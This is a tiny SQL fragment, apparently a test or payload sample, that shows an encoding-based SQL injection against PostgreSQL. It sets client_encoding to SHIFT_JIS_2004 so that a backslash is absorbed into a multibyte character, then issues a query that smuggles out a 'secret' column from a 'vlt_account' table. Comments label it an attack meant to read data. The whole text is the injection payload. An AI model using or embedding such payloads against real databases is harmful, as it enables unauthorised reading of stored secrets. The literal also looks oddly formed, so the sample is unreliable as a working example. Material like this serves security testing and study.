-- Speaks SHIFT_JIS_2004, in which a backslash can be the second half of a letter.
-- wants: read
-- attack:
SET client_encoding = 'SHIFT_JIS_2004';
-- together
SELECT E'ß\', secret FROM vlt_account --'
